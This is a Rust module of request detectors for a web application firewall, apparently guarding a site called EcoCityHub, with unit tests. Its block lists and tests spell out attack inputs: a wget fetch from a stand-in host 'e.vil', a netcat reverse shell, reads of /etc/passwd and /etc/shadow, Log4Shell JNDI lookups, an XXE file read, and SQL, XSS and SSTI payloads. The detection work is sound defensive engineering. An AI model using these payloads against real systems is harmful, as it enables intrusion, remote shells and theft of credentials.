//! Built-in detectors: checks written as code rather than as one pattern — the
//! libinjection tokenisers for SQL and HTML (with a second, grammatical piece of
//! evidence required for SQL), a shell grammar for command injection, Log4Shell-style
//! lookups, Node.js and prototype-pollution markers, URLs that reach internal
//! addresses (SSRF), NoSQL operators, LDAP filters, template expressions, server-side
//! includes, XML external entities and mail-protocol commands. Each has a stable rule
//! id and the request parts it reads.

use crate::request::Loc;
use regex::bytes::{Regex, RegexBuilder};
use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

/// The forms of one value a detector may read.
pub struct Forms<'a> {
    /// URL-decoded until stable, full-width letters folded, NULs removed.
    pub decoded: &'a str,
    /// `decoded` with HTML entities and JavaScript escapes decoded too.
    pub normal: &'a str,
}

/// A built-in detector.
pub struct Detector {
    pub id: &'static str,
    pub description: &'static str,
    pub locs: u32,
    /// Header names it reads when `locs` has `Loc::Header`; empty for all headers.
    pub headers: &'static [&'static str],
    /// Also runs on values made only of word characters and `.:+,@-` (`__proto__`).
    pub inert: bool,
    pub check: fn(&Forms) -> bool,
}

const ARGS: u32 = Loc::QueryArg.bit() | Loc::BodyArg.bit() | Loc::Xml.bit();
const NAMES: u32 = Loc::QueryArgName.bit() | Loc::BodyArgName.bit();
const COOKIES: u32 = Loc::Cookie.bit() | Loc::CookieName.bit();
const HEADERS: u32 = Loc::Header.bit();
const PATH: u32 = Loc::Path.bit();
const BODY: u32 = Loc::Body.bit();
const USER_INPUT: u32 = ARGS | NAMES | COOKIES;

/// Headers that carry text a client chose freely.
const FREE_HEADERS: &[&str] = &[
    "user-agent",
    "referer",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-real-ip",
    "forwarded",
    "x-api-version",
    "x-client-ip",
];

/// Every built-in detector, in evaluation order.
pub const DETECTORS: &[Detector] = &[
    Detector {
        id: "sqli-libinjection",
        description: "SQL injection: libinjection's tokeniser finds an injection fingerprint and the value has SQL grammar (a keyword, a quoted boolean, a comment after a quote)",
        locs: USER_INPUT | HEADERS | PATH,
        headers: FREE_HEADERS,
        inert: false,
        check: |f| sqli(f.decoded),
    },
    Detector {
        id: "xss-libinjection",
        description: "Cross-site scripting found by libinjection's HTML5 tokeniser",
        locs: USER_INPUT | HEADERS | PATH,
        headers: FREE_HEADERS,
        inert: false,
        check: |f| xss(f.decoded) || (f.normal != f.decoded && xss(f.normal)),
    },
    Detector {
        id: "rce-unix-command",
        description: "A Unix command in shell syntax: after a separator (; | & newline $( `) or at the start, followed by shell-like arguments",
        locs: USER_INPUT | HEADERS,
        headers: FREE_HEADERS,
        inert: false,
        check: |f| shell_command(f.decoded),
    },
    Detector {
        id: "java-lookup",
        description: "A Log4Shell-style lookup (${jndi:…}, ${env:…}, nested ${lower:…} obfuscation) or Java expression-language injection",
        locs: USER_INPUT | HEADERS | PATH | BODY,
        headers: &[],
        inert: false,
        check: |f| lookup(f.normal),
    },
    Detector {
        id: "node-injection",
        description: "Node.js code (require(), child_process, process.env, console.*, serialised functions) or prototype pollution (__proto__, constructor.prototype)",
        locs: USER_INPUT | HEADERS | BODY,
        headers: FREE_HEADERS,
        inert: true,
        check: |f| node(f.normal),
    },
    Detector {
        id: "ssrf-internal-url",
        description: "A URL whose host is loopback, private, link-local or a cloud metadata address, in any notation (decimal, hex, octal, IPv6-mapped, enclosed letters)",
        locs: ARGS | COOKIES,
        headers: &[],
        inert: false,
        check: |f| ssrf(f.normal),
    },
    Detector {
        id: "ssrf-dangerous-scheme",
        description: "A URL with a scheme servers are tricked into fetching (gopher, dict, file, ldap, jar, netdoc, expect, php filters)",
        locs: ARGS | COOKIES,
        headers: &[],
        inert: false,
        check: |f| dangerous_scheme(f.normal),
    },
    Detector {
        id: "nosqli-operator",
        description: "MongoDB query operators ($where, $ne, $regex…) or shell calls (db.collection.find(…))",
        locs: USER_INPUT | PATH,
        headers: &[],
        inert: false,
        check: |f| nosql(f.normal),
    },
    Detector {
        id: "ldap-filter",
        description: "An LDAP filter being closed and reopened: )(, (|(, (&(, *)(",
        locs: USER_INPUT,
        headers: &[],
        inert: false,
        check: |f| ldap(f.normal),
    },
    Detector {
        id: "ssti-expression",
        description: "A template expression that computes ({{7*7}}, ${…}, #{…}, <%= %>, {% %})",
        locs: USER_INPUT | PATH | HEADERS,
        headers: FREE_HEADERS,
        inert: false,
        check: |f| template(f.normal),
    },
    Detector {
        id: "ssi-directive",
        description: "A server-side include directive (<!--#exec …-->)",
        locs: USER_INPUT | HEADERS | BODY,
        headers: FREE_HEADERS,
        inert: false,
        check: |f| SSI.is_match(f.normal.as_bytes()),
    },
    Detector {
        id: "xxe-entity",
        description: "An XML document type with entities (external entities, XXE), also UTF-7 encoded",
        locs: BODY | ARGS,
        headers: &[],
        inert: false,
        check: |f| XXE.is_match(f.normal.as_bytes()) || XXE_UTF7.is_match(f.normal.as_bytes()),
    },
    Detector {
        id: "mail-command-injection",
        description: "A line break followed by an SMTP or IMAP command (mail header and command injection)",
        locs: USER_INPUT,
        headers: &[],
        inert: false,
        check: |f| MAIL.is_match(f.normal.as_bytes()),
    },
    Detector {
        id: "graphql-introspection",
        description: "A GraphQL introspection query (__schema, __type): EcoCityHub serves no GraphQL",
        locs: ARGS | BODY,
        headers: &[],
        inert: false,
        check: |f| GRAPHQL.is_match(f.normal.as_bytes()),
    },
];

fn rx(pattern: &str) -> Regex {
    RegexBuilder::new(pattern)
        .unicode(false)
        .case_insensitive(true)
        .build()
        .unwrap_or_else(|e| panic!("detector regex {pattern}: {e}"))
}

macro_rules! lazy_rx {
    ($name:ident, $pattern:expr) => {
        static $name: LazyLock<Regex> = LazyLock::new(|| rx($pattern));
    };
}

// --- SQL ---------------------------------------------------------------------------

lazy_rx!(
    SQL_EVIDENCE,
    concat!(
        r"\b(?:select|union|insert|update|delete|drop|truncate|alter|create|exec|execute|declare|sleep|benchmark|waitfor|having|procedure|information_schema|sysobjects|syscolumns|load_file|outfile|dumpfile|xp_\w+|sp_\w+|pg_sleep|dbms_\w+|utl_\w+|concat(?:_ws)?|group_concat|char|chr|ascii|substring|substr|mid|hex|unhex|version|database|schema|extractvalue|updatexml|cast|convert|coalesce|ifnull|nullif|iif|if|isnull|rlike|regexp|sounds\s+like|into|from|where|limit|offset|shutdown|grant|revoke|case\s+when|order\s+by|group\s+by|null)\b",
        r"|@@\w|\b0x[0-9a-f]{2,}|\bx'[0-9a-f]+'",
        r"|['`)]\s*(?:or|and|xor|div|\|\||&&)\b",
        r#"|"\s*(?:or|and|xor|\|\||&&)\s*["\d(@]"#,
        r#"|\b(?:or|and|xor|not)\b\s*[-+(]*\s*['"`]?\w*['"`]?\s*(?:=|<|>|!=|<>|\blike\b|\bis\b|\bin\b|\bbetween\b)"#,
        r#"|\b(?:or|and|xor)\s+(?:true|false|\d+)\s*(?:$|--|#|/\*|;|\)|=|<|>)"#,
        r#"|['"`]\s*(?:--|#|/\*|;)"#,
        r#"|/\*!|\w/\*\*/\w|;\s*(?:--|#)"#,
        r#"|['"`]\s*(?:=|<>|!=|<|>|\|\||\+|-)\s*['"`\d]"#,
    )
);

fn sqli(s: &str) -> bool {
    !s.is_empty()
        && libinjectionrs::detect_sqli(s.as_bytes()).is_injection()
        && SQL_EVIDENCE.is_match(s.as_bytes())
}

fn xss(s: &str) -> bool {
    s.len() > 2 && libinjectionrs::detect_xss(s.as_bytes()).is_injection()
}

// --- Shell -------------------------------------------------------------------------

/// Commands whose names are not English words: any arguments, or none, make them a command.
const DISTINCT_COMMANDS: &[&str] = &[
    "awk",
    "bash",
    "base64",
    "busybox",
    "chmod",
    "chown",
    "chgrp",
    "crontab",
    "csh",
    "curl",
    "dash",
    "dig",
    "dmesg",
    "fetch",
    "ftp",
    "gawk",
    "gcc",
    "grep",
    "egrep",
    "fgrep",
    "gzip",
    "gunzip",
    "hostname",
    "ifconfig",
    "ipconfig",
    "iptables",
    "ksh",
    "lsof",
    "ls",
    "lua",
    "md5sum",
    "mkfifo",
    "mknod",
    "mysql",
    "nc",
    "ncat",
    "netcat",
    "netstat",
    "nmap",
    "nohup",
    "nslookup",
    "passwd",
    "perl",
    "php",
    "pkill",
    "powershell",
    "pwsh",
    "psql",
    "pwd",
    "python",
    "python2",
    "python3",
    "rm",
    "rmdir",
    "ruby",
    "scp",
    "sed",
    "sftp",
    "sh",
    "sha1sum",
    "sha256sum",
    "socat",
    "ssh",
    "sudo",
    "su",
    "systeminfo",
    "tasklist",
    "taskkill",
    "tcsh",
    "telnet",
    "tftp",
    "uname",
    "useradd",
    "usermod",
    "wget",
    "whoami",
    "xargs",
    "xterm",
    "zsh",
    "cmd",
    "cmd.exe",
    "certutil",
    "bitsadmin",
    "wmic",
    "regsvr32",
    "rundll32",
    "mshta",
    "cscript",
    "wscript",
    "reg",
    "schtasks",
    "net",
    "net1",
    "nltest",
    "icacls",
    "ps",
    "id",
    "env",
    "printenv",
    "ping",
    "traceroute",
    "tracert",
    "uptime",
    "ifup",
    "openssl",
    "tar",
    "unzip",
    "zip",
    "chattr",
    "crond",
    "killall",
    "setsid",
    "strace",
    "tcpdump",
    "timeout",
    "vi",
    "vim",
    "nano",
    "ed",
    "node",
    "npm",
    "npx",
    "java",
    "javac",
    "jrunscript",
    "gdb",
    "expect",
    "docker",
    "kubectl",
    "systemctl",
    "service",
    "mount",
    "umount",
    "dd",
    "cp",
    "mv",
    "ln",
    "mkdir",
    "cat",
    "tac",
    "nl",
    "od",
    "xxd",
    "hexdump",
    "strings",
    "head",
    "tail",
    "less",
    "more",
    "echo",
    "printf",
    "sleep",
    "kill",
    "touch",
    "find",
    "locate",
    "which",
    "whereis",
    "sort",
    "uniq",
    "wc",
    "cut",
    "tr",
    "diff",
    "file",
    "stat",
    "du",
    "df",
    "free",
    "top",
    "who",
    "w",
    "last",
    "groups",
    "time",
    "date",
    "eval",
    "exec",
    "source",
    "export",
    "set",
    "unset",
    "alias",
    "type",
    "dir",
    "del",
    "copy",
    "move",
    "ren",
    "start",
    "call",
    "shutdown",
    "reboot",
    "halt",
    "init",
    "at",
    "ansible",
    "ansible-doc",
    "ansible-playbook",
    "c89",
    "c99",
    "cc",
];

/// Command names that are also ordinary words: they need shell-like arguments.
const WORDLIKE_COMMANDS: &[&str] = &[
    "at", "cat", "more", "less", "head", "tail", "echo", "sleep", "kill", "touch", "find", "which",
    "sort", "file", "free", "top", "who", "w", "last", "groups", "time", "date", "source",
    "export", "set", "alias", "type", "dir", "copy", "move", "start", "call", "init", "halt",
    "cut", "wait", "expect", "service", "mount", "env", "id", "ping", "net", "reg", "fetch",
    "timeout", "strings", "diff", "ed", "nl", "od", "tr", "cp", "mv", "ln", "dd", "ps", "du", "df",
    "wc", "uniq", "stat", "printf", "eval", "exec", "del", "ren", "shutdown", "reboot", "node",
    "java", "php", "python", "ruby", "perl", "lua", "tar", "zip", "grep", "sed", "awk", "curl",
    "nc", "ls", "rm", "su", "sh",
];

lazy_rx!(SHELL_POSITION, r"(?:[;|&\n\r`]|\$\(|\$\{IFS\}|\{|^)\s*");

fn shell_command(s: &str) -> bool {
    let folded = fold_shell(s);
    let b = folded.as_bytes();
    SHELL_POSITION.find_iter(b).any(|m| {
        let opener = m.as_bytes();
        let at_start = m.start() == 0 && opener.iter().all(u8::is_ascii_whitespace);
        let substitution = opener.starts_with(b"$(") || opener.starts_with(b"`");
        command_at(&folded[m.end()..], at_start, substitution)
    })
}

/// Removes the quoting tricks that split a command name (`c''at`, `c\at`, `c^md`, `$@`)
/// and turns `${IFS}` into a space.
fn fold_shell(s: &str) -> String {
    static SPLIT: LazyLock<regex::Regex> = LazyLock::new(|| {
        regex::Regex::new(r#"([A-Za-z0-9])(?:['"\\^]|\$@|\$\*)+([A-Za-z0-9/])"#)
            .expect("static regex")
    });
    let mut cur = s.replace("${IFS}", " ").replace("$IFS", " ");
    for _ in 0..3 {
        let next = SPLIT.replace_all(&cur, "$1$2").into_owned();
        if next == cur {
            break;
        }
        cur = next;
    }
    cur
}

fn command_at(rest: &str, at_start: bool, substitution: bool) -> bool {
    let rest = rest.trim_start_matches(['"', '\'', '(', ' ', '\t']);
    let word_end = rest
        .find(|c: char| {
            !(c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '\\' | ':'))
        })
        .unwrap_or(rest.len());
    let word = &rest[..word_end];
    let name = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    if !DISTINCT_COMMANDS.contains(&name) {
        return false;
    }
    let has_path = word.contains('/') || word.contains('\\');
    let after = &rest[word_end..];
    let args = after.trim_start_matches([' ', '\t']);
    let spaced = after.len() != args.len();
    if !after.is_empty()
        && !spaced
        && !after.starts_with([';', '|', '&', '>', '<', '`', ')', '\n', '\r', '$'])
    {
        return false;
    }
    let wordlike = WORDLIKE_COMMANDS.contains(&name);
    if substitution {
        return true;
    }
    let arg_shell_like = shell_like_argument(args);
    if at_start {
        // A value that starts with a command needs arguments that only a shell would take.
        return arg_shell_like || (has_path && !wordlike);
    }
    if args.is_empty() || args.starts_with([';', '|', '&', '>', '<', '`', ')', '\n', '\r']) {
        return true;
    }
    !wordlike || arg_shell_like || has_path
}

/// `-x`, `/path`, `./x`, `~`, `$VAR`, a quoted string, a redirection, an URL, a number
/// followed by nothing (sleep 5), `host:port` or an IP address.
fn shell_like_argument(args: &str) -> bool {
    let first = args.split([' ', '\t']).next().unwrap_or("");
    if first.is_empty() {
        return false;
    }
    first.starts_with([
        '-', '/', '~', '$', '"', '\'', '`', '>', '<', '|', '%', '\\', '.',
    ]) || first.contains('/')
        || first.contains("://")
        || (first.bytes().all(|c| c.is_ascii_digit()) && args.trim() == first)
        || first.parse::<Ipv4Addr>().is_ok()
        || args.contains(" -")
        || args.contains(['|', '>', '<', '`', '$'])
}

// --- Java, Node --------------------------------------------------------------------

lazy_rx!(
    LOOKUP,
    r"\$\{(?:jndi|env|sys|ctx|java|main|bundle|date|lower|upper|base64|docker|k8s|spring|web|log4j|marker|map|sd|event|::-|[a-z]*:)"
);
lazy_rx!(
    JNDI_FOLDED,
    r"jndi:(?:ldaps?|rmi|dns|iiop|nis|nds|corba|http)"
);
lazy_rx!(
    JAVA_EL,
    r"(?:\$\{|#\{|%\{)[^}]*(?:getruntime|processbuilder|\.exec\(|classloader|forname|getclass|java\.lang)|T\(java\.lang|new\s+java\.(?:lang|io|net)\."
);

/// Removes nested lookups that only rebuild letters (`${lower:J}`, `${::-n}`, `${env:X:-d}`).
fn fold_lookups(s: &str) -> String {
    static INNER: LazyLock<regex::Regex> = LazyLock::new(|| {
        regex::Regex::new(r"(?i)\$\{(?:[a-z0-9_]*:)*(?:-)?([^${}:]*)\}").expect("static regex")
    });
    let mut cur = s.to_owned();
    for _ in 0..8 {
        let next = INNER.replace_all(&cur, "$1").into_owned();
        if next == cur {
            break;
        }
        cur = next;
    }
    cur
}

fn lookup(s: &str) -> bool {
    let b = s.as_bytes();
    if JAVA_EL.is_match(b) {
        return true;
    }
    if !s.contains("${") {
        return false;
    }
    LOOKUP.is_match(b)
        && (JNDI_FOLDED.is_match(fold_lookups(s).as_bytes())
            || s.to_ascii_lowercase().contains("${jndi:")
            || nested_lookup(s))
}

/// `${…${…}…}`: a lookup built from lookups, or an environment/system lookup.
fn nested_lookup(s: &str) -> bool {
    let lower = s.to_ascii_lowercase();
    let depth_two = lower.match_indices("${").any(|(i, _)| {
        lower[i + 2..]
            .split('}')
            .next()
            .is_some_and(|inner| inner.contains("${"))
    });
    depth_two
        || [
            "${env:",
            "${sys:",
            "${ctx:",
            "${java:",
            "${main:",
            "${bundle:",
            "${docker:",
            "${k8s:",
            "${spring:",
            "${web:",
        ]
        .iter()
        .any(|p| lower.contains(p))
}

lazy_rx!(
    NODE,
    concat!(
        r"__proto__|\bconstructor\s*(?:\.|\[\s*['\x22]?)\s*prototype|_\$\$nd_func\$\$_|__js_function",
        r"|\brequire\s*\(\s*['\x22`]|\bchild_process\b|\bprocess\s*(?:\.|\[\s*['\x22`]?)\s*(?:env|mainmodule|binding|exit|kill|dlopen)\b",
        r"|\bconsole\s*\.\s*(?:log|info|warn|error|debug|dir|trace)\s*(?:\.\s*(?:call|apply|bind)\s*)?\(",
        r"|\b(?:eval|Function|setTimeout|setInterval)\s*\(\s*['\x22`]|\bfunction\s*\(\s*\)\s*\{",
        r"|\bnew\s+Function\s*\(|\.constructor\s*\(\s*['\x22`]|\bglobal\s*\.\s*process\b|\bmodule\s*\.\s*(?:exports|require|constructor)\b",
        r"|\bthis\s*\.\s*constructor\s*\.\s*constructor|\bimport\s*\(\s*['\x22`]",
    )
);

fn node(s: &str) -> bool {
    NODE.is_match(s.as_bytes())
}

// --- SSRF --------------------------------------------------------------------------

lazy_rx!(
    URL_IN_VALUE,
    r"(?:^|[\s=\x22'(,;@])(?:[a-z][a-z0-9+.-]{1,15}:/{0,2}|//)\\?/?(?:[^\s/?#@\x22']*@)?(\[[0-9a-f:.%a-z]+\]|[^\s/?#:\x22'\\]+)(?::\d*)?(?:[/?#\\]|$)"
);

/// Whether a host string (as written in a URL) names an internal address.
pub fn internal_host(host: &str) -> bool {
    let h = host
        .trim_matches(['[', ']'])
        .trim_end_matches('.')
        .to_ascii_lowercase();
    let h = h.split('%').next().unwrap_or("").to_owned();
    if matches!(
        h.as_str(),
        "localhost"
            | "localhost.localdomain"
            | "ip6-localhost"
            | "ip6-loopback"
            | "ipv6-localhost"
            | "metadata"
            | "metadata.google.internal"
            | "instance-data"
            | "0"
            | "kubernetes.default"
            | "kubernetes.default.svc"
    ) || h.ends_with(".localhost")
        || h.ends_with(".internal")
        || h.ends_with(".nip.io") && h.starts_with("127.")
        || h.contains("169.254.169.254")
    {
        return true;
    }
    if let Ok(v6) = h.parse::<Ipv6Addr>() {
        return v6.is_loopback()
            || v6.is_unspecified()
            || v6.to_ipv4_mapped().is_some_and(internal_v4)
            || (v6.segments()[0] & 0xfe00) == 0xfc00
            || (v6.segments()[0] & 0xffc0) == 0xfe80;
    }
    parse_ipv4_any(&h).is_some_and(internal_v4)
}

fn internal_v4(ip: Ipv4Addr) -> bool {
    ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.octets()[0] == 0
        || ip.octets()[0] == 100 && (ip.octets()[1] & 0xc0) == 64
}

/// IPv4 in the notations `inet_aton` accepts: dotted with 1–4 parts, each decimal,
/// hex (`0x`) or octal (leading 0), e.g. `2130706433`, `0x7f.1`, `0177.0.0.1`.
fn parse_ipv4_any(h: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = h.split('.').collect();
    if parts.is_empty() || parts.len() > 4 || parts.iter().any(|p| p.is_empty()) {
        return None;
    }
    let nums: Vec<u64> = parts
        .iter()
        .map(|p| parse_c_number(p))
        .collect::<Option<_>>()?;
    let (last, init) = nums.split_last()?;
    if init.iter().any(|&n| n > 255) || *last >= 1u64 << (8 * (4 - init.len())) {
        return None;
    }
    let mut value: u64 = *last;
    for (i, n) in init.iter().enumerate() {
        value |= n << (8 * (3 - i));
    }
    Some(Ipv4Addr::from(value as u32))
}

fn parse_c_number(p: &str) -> Option<u64> {
    if let Some(hex) = p.strip_prefix("0x") {
        return u64::from_str_radix(if hex.is_empty() { "0" } else { hex }, 16).ok();
    }
    if p.len() > 1 && p.starts_with('0') {
        return u64::from_str_radix(&p[1..], 8).ok();
    }
    p.parse().ok()
}

/// Folds enclosed alphanumerics (ⓛ, ①…) to ASCII, as URL parsers do (IDNA mapping).
fn fold_enclosed(s: &str) -> String {
    s.chars()
        .map(|c| match c as u32 {
            0x24D0..=0x24E9 => char::from_u32(c as u32 - 0x24D0 + 'a' as u32).unwrap_or(c),
            0x24B6..=0x24CF => char::from_u32(c as u32 - 0x24B6 + 'a' as u32).unwrap_or(c),
            0x2460..=0x2468 => char::from_u32(c as u32 - 0x2460 + '1' as u32).unwrap_or(c),
            0x24EA => '0',
            0x3002 | 0xFF0E | 0xFF61 => '.',
            _ => c,
        })
        .collect()
}

fn ssrf(s: &str) -> bool {
    let folded = fold_enclosed(s);
    let lower = folded.to_ascii_lowercase();
    if !(lower.contains("://")
        || lower.contains(":\\")
        || lower.contains(":/")
        || lower.starts_with("//")
        || lower.contains("localhost")
        || lower.contains(":0x")
        || lower.contains("http:")
        || lower.contains("https:"))
    {
        return false;
    }
    URL_IN_VALUE.captures_iter(lower.as_bytes()).any(|c| {
        c.get(1)
            .is_some_and(|h| internal_host(&String::from_utf8_lossy(h.as_bytes())))
    }) || lower.split_once(':').is_some_and(|(scheme, rest)| {
        matches!(scheme, "http" | "https") && internal_host(rest.trim_start_matches('/'))
    })
}

lazy_rx!(
    DANGEROUS_SCHEME,
    r"^\s*(?:gopher|dict|file|ldaps?|jar|netdoc|expect|tftp|sftp|phar|zip|glob|data:text/html|php:filter|php://|ogg|rar|ssh2|smb)[:/]"
);

fn dangerous_scheme(s: &str) -> bool {
    DANGEROUS_SCHEME.is_match(s.as_bytes())
}

// --- NoSQL, LDAP, templates, SSI, XXE, mail, GraphQL --------------------------------------

lazy_rx!(
    NOSQL,
    concat!(
        r"\$(?:where|ne|eq|gt|gte|lt|lte|in|nin|regex|exists|or|and|nor|not|expr|function|accumulator|elemmatch|all|size|type|jsonschema|text|mod)\b\s*['\x22\]]?\s*[:=\]]",
        r"|\[\s*\$(?:where|ne|eq|gt|gte|lt|lte|in|nin|regex|exists|or|and|nor|not|expr)\s*\]",
        r"|\bdb\s*\.\s*[a-z_][\w]*\s*\.\s*(?:find|insert|update|remove|drop|aggregate|delete\w*|count)\w*\s*\(",
        r"|\bdb\s*\.\s*(?:getcollection|eval|dropdatabase|getsiblingdb|adduser|createuser)\s*\(",
        r"|\bsleep\s*\(\s*\d+\s*\)\s*;|\bthis\s*\.\s*\w+\s*(?:==|!=)",
    )
);

fn nosql(s: &str) -> bool {
    NOSQL.is_match(s.as_bytes())
}

lazy_rx!(
    LDAP,
    r"\)\s*\(\s*[|&!]?\s*\(?\s*[a-z][\w-]*\s*[~<>]?=|\(\s*[|&!]\s*\(\s*[a-z][\w-]*\s*[~<>]?=|\*\s*\)\s*\(|\(\s*[a-z][\w-]*\s*=\s*\*\s*\)\s*\)|^\s*\*\s*\)\s*\(|\)\s*\(\s*\|"
);

fn ldap(s: &str) -> bool {
    LDAP.is_match(s.as_bytes())
}

lazy_rx!(
    TEMPLATE,
    concat!(
        r"\{\{\s*[^}]*(?:\d\s*[*+/-]\s*\d|\.__|\bself\b|\bconfig\b|\brequest\b|\bcycler\b|\blipsum\b|\bjoiner\b|\bnamespace\b|\bget_flashed|\|\s*attr|\bconstructor\b|_self|\bphpinfo|\bsystem\b|\bexec\b)[^}]*\}\}",
        r"|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}|\*\{\s*[^}]*\}|<%=?\s*[^%]*(?:\d\s*[*+]\s*\d|system|exec|`)[^%]*%>",
        r"|\{%\s*(?:import|include|extends|set|for|if|debug|raw|php|load)\b[^%]*%\}|\{\{\s*7\s*\*\s*'7'\s*\}\}|\$\{\s*(?:t\(|new\s|class\.|@|\x22\s*\.)",
        r"|#set\s*\(\s*\$|#foreach\s*\(|\$class\.inspect|<#assign\b|\?new\(\)|freemarker\.template",
    )
);

fn template(s: &str) -> bool {
    TEMPLATE.is_match(s.as_bytes())
}

lazy_rx!(
    SSI,
    r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if|elif)\b"
);
lazy_rx!(
    XXE,
    r"<!(?:doctype|entity|element|attlist)\b[^>]*(?:\[|\bsystem\b|\bpublic\b|%\s*\w)|<!entity\b"
);
lazy_rx!(
    XXE_UTF7,
    r"\+adwaiq-(?:doctype|entity|element)|\+adw-!(?:doctype|entity)"
);
lazy_rx!(
    MAIL,
    r"[\r\n]\s*(?:(?:[a-z]\d{1,4}\s+)?(?:capability|login|logout|select|examine|fetch|store|copy|uid|noop|authenticate|append|list|lsub|status|search|expunge|idle|starttls)\b|(?:helo|ehlo|mail\s+from|rcpt\s+to|data|rset|vrfy|expn|quit|auth\s+\w+|bcc|cc|to|from|subject|reply-to|content-type)\s*[:\s]|quit\s*$)"
);
lazy_rx!(
    GRAPHQL,
    r"\b__(?:schema|type)\b\s*[({]|\bintrospectionquery\b"
);

#[cfg(test)]
mod tests {
    use super::*;

    fn forms(s: &str) -> (String, String) {
        let decoded = crate::transform::apply(crate::transform::Transform::UrlDecodeUni, s);
        (decoded.clone(), crate::transform::normal_form(&decoded))
    }

    fn fires(id: &str, value: &str) -> bool {
        let d = DETECTORS.iter().find(|d| d.id == id).unwrap();
        let (decoded, normal) = forms(value);
        (d.check)(&Forms {
            decoded: &decoded,
            normal: &normal,
        })
    }

    #[test]
    fn sqli_needs_tokens_and_grammar() {
        for a in [
            "1' or '1'='1",
            "-1 union select 1,2,version()--",
            "admin'--",
            "1; drop table users",
            "1 and sleep(5)#",
        ] {
            assert!(fires("sqli-libinjection", a), "{a}");
        }
        for b in [
            "CHRISTMAS STOCKING \"NOT\" STUFFER",
            "35% cotton and 65% polyester.",
            "\"IS\" STAMP",
            "x/*",
            "O'Reilly books",
            "rock & roll",
        ] {
            assert!(!fires("sqli-libinjection", b), "{b}");
        }
    }

    #[test]
    fn xss_is_tokenised() {
        assert!(fires("xss-libinjection", "<img src=x onerror=alert(1)>"));
        assert!(fires(
            "xss-libinjection",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E"
        ));
        assert!(!fires("xss-libinjection", "5 < 6 and 7 > 3"));
    }

    #[test]
    fn shell_commands_need_shell_syntax() {
        for a in [
            "; cat /etc/passwd",
            "| id",
            "x && wget http://e.vil/s.sh",
            "`whoami`",
            "$(curl e.vil)",
            "bash -c 'id'",
            "c''at /etc/shadow",
            "nc -e /bin/sh 10.0.0.1 4444",
            "; sleep 5",
            "ping -c 3 127.0.0.1",
            "; ls${IFS}-la",
        ] {
            assert!(fires("rce-unix-command", a), "{a}");
        }
        for b in [
            "bash away in the gym",
            "ls 300 lexus",
            "curl and divergence",
            "time he came.",
            "heroine; more than that",
            "gated; call when you get here",
            "copy; cat lovers",
            "java lang courses",
            "rock & roll & cat videos",
        ] {
            assert!(!fires("rce-unix-command", b), "{b}");
        }
    }

    #[test]
    fn lookups_and_node() {
        for a in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:${lower:l}dap://x}",
            "${${::-j}${::-n}di:rmi://x}",
            "${env:AWS_SECRET_ACCESS_KEY}",
        ] {
            assert!(fires("java-lookup", a), "{a}");
        }
        assert!(!fires("java-lookup", "costs ${price} per month"));
        for a in [
            "{\"__proto__\":{\"admin\":true}}",
            "constructor[prototype][x]=1",
            "require('child_process').exec('id')",
            "console.info(1)",
            "c\\u006fnsole.log(1)",
        ] {
            assert!(fires("node-injection", a), "{a}");
        }
        assert!(!fires(
            "node-injection",
            "the process of requiring a constructor"
        ));
    }

    #[test]
    fn ssrf_in_every_notation() {
        for a in [
            "http://127.0.0.1/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://[::1]/",
            "http://[::ffff:127.0.0.1]/",
            "http://169.254.169.254/latest/meta-data/",
            "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/",
            "http://10.1.2.3:8080/x",
        ] {
            assert!(fires("ssrf-internal-url", a), "{a}");
        }
        for b in [
            "http://127.0.0.1.example.org/",
            "https://example.org/a",
            "http://8.8.8.8/",
            "10.5 kg",
            "version 1.0.0.1",
        ] {
            assert!(!fires("ssrf-internal-url", b), "{b}");
        }
        assert!(fires("ssrf-dangerous-scheme", "gopher://x:25/_HELO"));
        assert!(!fires("ssrf-dangerous-scheme", "a gopher in the garden"));
    }

    #[test]
    fn other_injections() {
        assert!(fires("nosqli-operator", "{\"user\": {\"$ne\": null}}"));
        assert!(fires("nosqli-operator", "true, $where: '1 == 1'"));
        assert!(!fires("nosqli-operator", "costs $5 or less"));
        assert!(fires("ldap-filter", "*)(uid=*))(|(uid=*"));
        assert!(!fires("ldap-filter", "(see page 4) (and 5)"));
        assert!(fires("ssti-expression", "{{7*7}}"));
        assert!(fires("ssti-expression", "#{16*8787}"));
        assert!(!fires("ssti-expression", "{{name}} and {{ count }}"));
        assert!(fires("ssi-directive", "<!--#exec cmd=\"id\"-->"));
        assert!(fires(
            "xxe-entity",
            "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
        ));
        assert!(!fires("xxe-entity", "<!DOCTYPE html><p>x</p>"));
        assert!(fires("mail-command-injection", "x\r\nRCPT TO: <a@b.c>"));
        assert!(fires("mail-command-injection", "%0D%0AV100 CAPABILITY"));
        assert!(!fires("mail-command-injection", "line one\nline two"));
    }
}
